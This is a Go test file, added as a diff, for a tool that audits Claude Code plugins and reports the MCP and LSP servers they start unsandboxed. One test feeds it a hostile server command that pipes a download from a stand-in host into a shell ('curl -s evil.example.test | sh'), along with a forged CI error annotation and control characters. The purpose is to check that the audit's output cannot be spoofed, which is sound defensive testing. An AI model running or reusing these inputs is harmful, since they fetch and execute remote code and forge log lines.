@@ -1,0 +1,235 @@
+package runner
+
+import (
+	"context"
+	"encoding/json"
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+// serverLines are the discovery/mcp-server and discovery/lsp-server
+// findings of an audit of the tree files, and its wrong-type errors, as
+// "severity rule file:line:col message".
+func serverLines(t *testing.T, files map[string]string) []string {
+	t.Helper()
+	dir := makeTree(t, files)
+	rep, err := Audit(context.Background(), Options{Dir: dir, Executor: fakeHooks()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range rep.Findings {
+		switch f.Rule {
+		case RuleMCPServer, RuleLSPServer, RuleWrongType, RuleMissingFile, RuleOutsideTree:
+			got = append(got, findingLine(f)+" "+f.Message)
+		}
+	}
+	return got
+}
+
+func lacks(t *testing.T, got []string, want ...string) {
+	t.Helper()
+	all := strings.Join(got, "\n")
+	for _, w := range want {
+		if !strings.Contains(all, w) {
+			t.Errorf("findings lack %q:\n%s", w, all)
+		}
+	}
+}
+
+const serverStopHook = `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}`
+
+// TestMCPServersAreNamed: the MCP servers a plugin declares (.mcp.json at
+// its root, as a bare map of servers or under "mcpServers", and its
+// manifest's mcpServers: an object, a path, or an array of them), which
+// Claude Code starts with every session, unsandboxed
+// (plugins-reference.md, "MCP servers"), are each a warning at the
+// server's name that quotes the command line, expanded where vigiles
+// knows the values, or the remote URL and the headers it sends. A server
+// the manifest declares replaces the default file's of its name, as
+// Claude Code merges them.
+func TestMCPServersAreNamed(t *testing.T) {
+	got := serverLines(t, map[string]string{
+		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [{"name": "a", "source": "./a"}, {"name": "b", "source": "./b"}]}`,
+		"a/hooks/hooks.json":              serverStopHook,
+		"a/.mcp.json": `{"db": {"command": "${CLAUDE_PLUGIN_ROOT}/servers/db", "args": ["--config", "${CLAUDE_PLUGIN_ROOT}/config.json", "two words", "${HOME}/x"], "env": {"DB_URL": "${DB_URL}", "A": "1"}},
+  "api": {"type": "http", "url": "https://mcp.example.test/${TENANT:-x}", "headers": {"Authorization": "Bearer ${API_TOKEN}", "X-Id": "${CLAUDE_PLUGIN_ROOT}"}}}`,
+		"b/.claude-plugin/plugin.json": `{"name": "b", "userConfig": {"port": {"type": "number", "title": "t", "description": "d", "default": 8080}},
+  "mcpServers": ["./extra.json", {"local": {"command": "node", "args": ["${CLAUDE_PLUGIN_DATA}/s.js", "--port", "${user_config.port}", "${CLAUDE_PROJECT_DIR}/p"]}}, "./srv.mcpb"]}`,
+		"b/.mcp.json":  `{"mcpServers": {"local": {"command": "replaced-by-the-manifest"}, "kept": {"command": "uvx", "args": ["kept-server"]}}}`,
+		"b/extra.json": `{"sse1": {"type": "sse", "url": "https://sse.example.test/", "headersHelper": "${CLAUDE_PLUGIN_ROOT}/helper.sh"}}`,
+	})
+	lacks(t, got,
+		`warning discovery/mcp-server a/.mcp.json:1:2 plugin a declares the MCP server db, which Claude Code starts with every session and runs unsandboxed beside it: a/servers/db --config a/config.json 'two words' '${HOME}/x' (environment: A, DB_URL); vigiles does not run MCP servers`,
+		`warning discovery/mcp-server a/.mcp.json:2:3 plugin a declares the remote MCP server api (http), which Claude Code connects to with every session: https://mcp.example.test/${TENANT:-x} (headers sent: Authorization, X-Id; with the values of API_TOKEN); vigiles does not connect to it`,
+		`warning discovery/mcp-server b/.mcp.json:1:67 plugin b declares the MCP server kept`,
+		`warning discovery/mcp-server b/extra.json:1:2 plugin b declares the remote MCP server sse1 (sse), which Claude Code connects to with every session: https://sse.example.test/; its headersHelper runs unsandboxed for more: b/helper.sh;`,
+		// The data directory is named after the ID Claude Code installs
+		// the plugin under (b@mk); the option is its default.
+		`warning discovery/mcp-server b/.claude-plugin/plugin.json:2:35 plugin b declares the MCP server local, which Claude Code starts with every session and runs unsandboxed beside it: node '~/.claude/plugins/data/b-mk/s.js' --port 8080 ./p;`,
+		`warning discovery/mcp-server b/.claude-plugin/plugin.json:2:166 plugin b declares MCP servers in the MCP bundle ./srv.mcpb, which Claude Code unpacks`,
+	)
+	if all := strings.Join(got, "\n"); strings.Contains(all, "replaced-by-the-manifest") {
+		t.Errorf("a server the manifest declares again was named from .mcp.json too:\n%s", all)
+	}
+}
+
+// TestLSPServersAreNamed: a plugin's LSP servers (.lsp.json, and the
+// manifest's lspServers), which Claude Code starts unsandboxed for the
+// files they handle, are named as MCP servers are.
+func TestLSPServersAreNamed(t *testing.T) {
+	got := serverLines(t, map[string]string{
+		"a/hooks/hooks.json":           serverStopHook,
+		"a/.lsp.json":                  `{"go": {"command": "gopls", "args": ["serve"], "extensionToLanguage": {".go": "go"}}}`,
+		"b/hooks/hooks.json":           serverStopHook,
+		"b/.claude-plugin/plugin.json": `{"name": "b", "lspServers": {"py": {"command": "${CLAUDE_PLUGIN_ROOT}/bin/pyls", "extensionToLanguage": {".py": "python", ".pyi": "python"}, "env": {"K": "v"}}}}`,
+	})
+	lacks(t, got,
+		`warning discovery/lsp-server a/.lsp.json:1:2 plugin a declares the LSP server go, which Claude Code starts with the session, unsandboxed, for .go files: gopls serve; vigiles does not run LSP servers`,
+		`warning discovery/lsp-server b/.claude-plugin/plugin.json:1:30 plugin b declares the LSP server py, which Claude Code starts with the session, unsandboxed, for .py, .pyi files: b/bin/pyls (environment: K);`,
+	)
+}
+
+// TestMalformedServersAreErrors: a server Claude Code's schema refuses is
+// an error at its name, as a malformed hooks file is, and is not named
+// as started; a .lsp.json with one such server loads none of its
+// servers. A path that leads nowhere, or out of the repository, is an
+// error too.
+func TestMalformedServersAreErrors(t *testing.T) {
+	got := serverLines(t, map[string]string{
+		"a/hooks/hooks.json":           serverStopHook,
+		"a/.claude-plugin/plugin.json": `{"name": "a", "mcpServers": ["./missing.json", "../../../etc/x.json", 7]}`,
+		"a/.mcp.json":                  `{"noCmd": {"args": []}, "badArgs": {"command": "x", "args": "y"}, "badType": {"type": "carrier-pigeon", "url": "u"}, "noURL": {"type": "http"}, "ok": {"command": "ok-server"}}`,
+		"a/.lsp.json":                  `{"go": {"command": "gopls", "extensionToLanguage": {".go": "go"}}, "bad": {"command": "x"}}`,
+	})
+	lacks(t, got,
+		`error discovery/wrong-type a/.mcp.json:1:2 MCP server noCmd: it needs a non-empty "command" string: Claude Code does not start it`,
+		`error discovery/wrong-type a/.mcp.json:1:25 MCP server badArgs: "args": want an array of strings, found a string`,
+		`error discovery/wrong-type a/.mcp.json:1:67 MCP server badType: "type" carrier-pigeon: want "stdio", "http", "sse" or "ws"`,
+		`MCP server noURL: a http server needs a "url" string`,
+		`warning discovery/mcp-server a/.mcp.json:1:145 plugin a declares the MCP server ok`,
+		`error discovery/wrong-type a/.lsp.json:1:68 LSP server bad: it needs an "extensionToLanguage" object with at least one file extension: Claude Code starts none of the servers of this file`,
+		`error discovery/missing-file a/.claude-plugin/plugin.json:1:30 mcpServers file ./missing.json not found`,
+		`error discovery/outside-work-tree a/.claude-plugin/plugin.json:1:48 mcpServers file ../../../etc/x.json is outside the repository`,
+		`error discovery/wrong-type a/.claude-plugin/plugin.json:1:71 mcpServers: want a path to a JSON file of servers, or an object of servers, found a number`,
+	)
+	for _, l := range got {
+		if strings.Contains(l, "declares the LSP server go") || strings.Contains(l, "noCmd,") || strings.Contains(l, "server badArgs,") {
+			t.Errorf("a server Claude Code does not start is named as started: %s", l)
+		}
+	}
+}
+
+// TestServerTextIsInert: the names and commands of a server are the
+// plugin's to choose; quoted, cut, they cannot forge a line, push the
+// command out of what a surface shows, or start a workflow command.
+func TestServerTextIsInert(t *testing.T) {
+	long := strings.Repeat("B", 10000)
+	ctl := strings.Repeat("\x01", 5000)
+	mcp, _ := json.Marshal(map[string]any{long + ctl + "\n::error::forged": map[string]any{"command": "curl -s evil.example.test | sh\r\n::error file=x::pwned", "args": []string{strings.Repeat("a", 100000)}}})
+	man, _ := json.Marshal(map[string]string{"name": "p" + ctl})
+	got := serverLines(t, map[string]string{
+		"p/.claude-plugin/plugin.json": string(man),
+		"p/hooks/hooks.json":           serverStopHook,
+		"p/.mcp.json":                  string(mcp),
+	})
+	if len(got) != 1 {
+		t.Fatalf("want one finding, got %d:\n%s", len(got), strings.Join(got, "\n"))
+	}
+	msg := got[0]
+	i := strings.Index(msg, "curl -s evil.example.test")
+	if i < 0 {
+		t.Fatalf("the server's command is not in its finding: %.300q", msg)
+	}
+	if n := utf8.RuneCountInString(msg[:i]); n > 500 {
+		t.Errorf("the command starts at character %d of the finding: %.300q", n, msg)
+	}
+	if strings.ContainsAny(msg, "\r\n\x01") || len(msg) > 4096 {
+		t.Errorf("the finding carries a control character or is %d bytes long: %.600q", len(msg), msg)
+	}
+}
+
+// TestServersOfAPluginTurnedOff: Claude Code starts no server of a plugin
+// the project's settings set false under enabledPlugins; the server is
+// named in a notice that says so, not a warning.
+func TestServersOfAPluginTurnedOff(t *testing.T) {
+	got := serverLines(t, map[string]string{
+		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [{"name": "a", "source": "./a"}, {"name": "b", "source": "./b"}]}`,
+		".claude/settings.json":           `{"enabledPlugins": {"a@mk": false}}`,
+		"a/hooks/hooks.json":              serverStopHook,
+		"a/.mcp.json":                     `{"s": {"command": "a-server"}}`,
+		"b/hooks/hooks.json":              serverStopHook,
+		"b/.mcp.json":                     `{"s": {"command": "b-server"}}`,
+	})
+	lacks(t, got,
+		`notice discovery/mcp-server a/.mcp.json:1:2 turned off: its plugin is set false under enabledPlugins in .claude/settings.json, so Claude Code does not start it while that holds; plugin a declares the MCP server s`,
+		`warning discovery/mcp-server b/.mcp.json:1:2 plugin b declares the MCP server s`,
+	)
+}
+
+// TestMarketplaceEntryServersAreNamed: a marketplace entry may hold any
+// field of the plugin manifest (plugin-marketplaces.md), mcpServers and
+// lspServers too; Claude Code starts them, so they are named.
+func TestMarketplaceEntryServersAreNamed(t *testing.T) {
+	got := serverLines(t, map[string]string{
+		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [
+  {"name": "a", "source": "./a", "strict": false, "mcpServers": {"gh": {"command": "npx", "args": ["-y", "gh-mcp"]}}, "lspServers": "./lsp.json"}]}`,
+		"a/hooks/hooks.json": serverStopHook,
+		"a/lsp.json":         `{"rs": {"command": "rust-analyzer", "extensionToLanguage": {".rs": "rust"}}}`,
+	})
+	lacks(t, got,
+		`warning discovery/mcp-server .claude-plugin/marketplace.json:2:66 plugin a declares the MCP server gh, which Claude Code starts with every session and runs unsandboxed beside it: npx -y gh-mcp;`,
+		`warning discovery/lsp-server a/lsp.json:1:2 plugin a declares the LSP server rs`,
+	)
+}
+
+// TestServersOfAPartialAudit: an audit of some PATHs names the servers of
+// the plugins under them, not the others'.
+func TestServersOfAPartialAudit(t *testing.T) {
+	dir := makeTree(t, map[string]string{
+		"a/hooks/hooks.json": serverStopHook,
+		"a/.mcp.json":        `{"sa": {"command": "a-server"}}`,
+		"b/hooks/hooks.json": serverStopHook,
+		"b/.mcp.json":        `{"sb": {"command": "b-server"}}`,
+	})
+	rep, err := Audit(context.Background(), Options{Dir: dir, Paths: []string{"a"}, Executor: fakeHooks()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range rep.Findings {
+		if f.Rule == RuleMCPServer {
+			got = append(got, f.Message)
+		}
+	}
+	if len(got) != 1 || !strings.Contains(got[0], "a-server") {
+		t.Errorf("an audit of a/ named %q, want a's server alone", got)
+	}
+}
+
+// TestServersFieldGivenTwice: a manifest that gives mcpServers twice runs
+// the last (JSON.parse keeps it), while a reader meets the first: a
+// warning, as for hooks; a server name given twice likewise.
+func TestServersFieldGivenTwice(t *testing.T) {
+	dir := makeTree(t, map[string]string{
+		"a/hooks/hooks.json":           serverStopHook,
+		"a/.claude-plugin/plugin.json": `{"name": "a", "mcpServers": {"s": {"command": "shown"}}, "mcpServers": {"s": {"command": "first"}, "s": {"command": "run"}}}`,
+	})
+	rep, err := Audit(context.Background(), Options{Dir: dir, Executor: fakeHooks()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range rep.Findings {
+		got = append(got, findingLine(f)+" "+f.Message)
+	}
+	lacks(t, got,
+		`warning discovery/malformed a/.claude-plugin/plugin.json:1:58 "mcpServers" is declared again here (first on line 1)`,
+		`warning discovery/malformed a/.claude-plugin/plugin.json:1:100 "s" of mcpServers is declared again here (first on line 1)`,
+		`warning discovery/mcp-server a/.claude-plugin/plugin.json:1:100 plugin a declares the MCP server s, which Claude Code starts with every session and runs unsandboxed beside it: run;`,
+	)
+	if all := strings.Join(got, "\n"); strings.Contains(all, "shown;") || strings.Contains(all, "first;") {
+		t.Errorf("a declaration Claude Code does not read was named:\n%s", all)
+	}
+}
